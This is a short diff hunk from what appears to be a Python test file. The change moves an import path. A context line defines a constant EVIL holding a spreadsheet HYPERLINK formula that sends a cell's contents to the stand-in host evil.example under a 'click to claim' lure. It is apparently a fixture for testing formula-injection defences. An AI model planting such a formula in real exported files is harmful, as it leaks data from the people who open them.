@@ -13,7 +13,7 @@ from models.org import Person, RoleAssignment, Unit
 from models.orgtree import add_person, ensure_unit_path
 from models.outbox import OutboxMessage, OutboxStatus
 from models.talk import Talk
-from tests.test_activities import T0, publish
+from tests.activities.test_activities import T0, publish
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"点击领取")'
 
